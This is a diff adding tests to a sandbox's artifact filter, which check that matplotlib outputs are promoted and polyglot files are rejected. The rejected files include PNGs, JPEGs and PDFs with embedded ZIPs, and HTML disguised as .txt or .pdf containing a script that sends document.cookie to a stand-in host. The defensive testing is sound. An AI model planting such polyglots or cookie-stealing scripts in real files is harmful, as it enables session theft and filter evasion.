@@ -93,6 +93,58 @@ for mode in root user; do
 	check "$mode: plain text: promoted, no flags" promoted plain.txt
 	check "$mode: nothing rejected reaches --artifacts" \
 		eval '[ ! -e "$ART/esc.csv" ] && [ ! -e "$ART/osc52.txt" ] && [ ! -e "$ART/clear.txt" ] && [ -f "$ART/colours.log" ]'
+
+	# --- polyglots ------------------------------------------------------------
+	# Ordinary matplotlib outputs, and the same files carrying a second
+	# format where each format's readers skip data.
+	cat > "$M/poly.py" <<'PY'
+import io, struct, zipfile, zlib
+import matplotlib
+matplotlib.use("Agg")
+import matplotlib.pyplot as plt, numpy as np
+out = "/work/out/"
+fig, ax = plt.subplots()
+ax.plot(np.arange(50), np.sin(np.arange(50) / 5), label="sin")
+ax.imshow(np.random.rand(16, 16), extent=(0, 50, -1, 1), aspect="auto")
+ax.legend(); ax.set_title("plot")
+for ext in ("png", "jpg", "pdf"):
+    fig.savefig(out + "plot." + ext)
+z = io.BytesIO()
+with zipfile.ZipFile(z, "w") as f:
+    f.writestr("payload.sh", "echo owned\n")
+z = z.getvalue()
+png = open(out + "plot.png", "rb").read()
+def chunk(t, b):
+    return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b))
+# after IHDR: a private chunk, and a tEXt comment, holding the ZIP
+open(out + "zip-chunk.png", "wb").write(png[:33] + chunk(b"zIPp", z) + png[33:])
+open(out + "zip-text.png", "wb").write(png[:33] + chunk(b"tEXt", b"Comment\0" + z) + png[33:])
+jpg = open(out + "plot.jpg", "rb").read()
+com = b"\xff\xfe" + struct.pack(">H", len(z) + 2) + z
+open(out + "zip-com.jpg", "wb").write(jpg[:2] + com + jpg[2:])
+pdf = open(out + "plot.pdf", "rb").read()
+nl = pdf.index(b"\n", pdf.index(b"\n") + 1) + 1  # after the two header lines
+open(out + "zip.pdf", "wb").write(pdf[:nl] + z + b"\n" + pdf[nl:])
+page = b"<!DOCTYPE html><html><script>fetch('http://192.0.2.1/'+document.cookie)</script></html>\n"
+open(out + "page.txt", "wb").write(page)
+open(out + "page.pdf", "wb").write(b"%PDF-1.4\n" + page + b"startxref\n0\n%%EOF\n")
+open(out + "page-named.pdf", "wb").write(page)
+PY
+	mkjob "$M/j.json" python-analysis "$(cat "$M/poly.py")" '{limits: {memory_mib: 512}}'
+	sbx_run "$M/j.json"
+	expect_rc 0 "$mode: matplotlib and polyglot outputs: the run succeeds"
+	for f in plot.png plot.jpg plot.pdf; do
+		check "$mode: matplotlib's $f is promoted, no flags" promoted $f
+	done
+	check "$mode: PNG with a ZIP in a private chunk: rejected" rejected_because zip-chunk.png 'zIPp (chunk holds a ZIP|of [0-9]+ bytes)'
+	check "$mode: PNG with a ZIP in a tEXt chunk: rejected" rejected_because zip-text.png 'tEXt chunk holds a ZIP'
+	check "$mode: JPEG with a ZIP in a COM segment: rejected" rejected_because zip-com.jpg 'COM segment holds a ZIP'
+	check "$mode: a PDF holding a ZIP: rejected" rejected_because zip.pdf 'not a PDF object'
+	check "$mode: an HTML page named .txt: rejected" rejected_because page.txt 'starts like an HTML'
+	check "$mode: an HTML page behind a PDF header: rejected" rejected_because page.pdf 'not a PDF object'
+	check "$mode: an HTML page named .pdf: rejected" rejected_because page-named.pdf 'extension says application/pdf'
+	check "$mode: only the matplotlib files reach --artifacts" \
+		test "$(cd "$ART" && find . -type f | sort | tr '\n' ' ')" = "./plot.jpg ./plot.pdf ./plot.png "
 	check "$mode: nothing left behind" nothing_left
 done
 
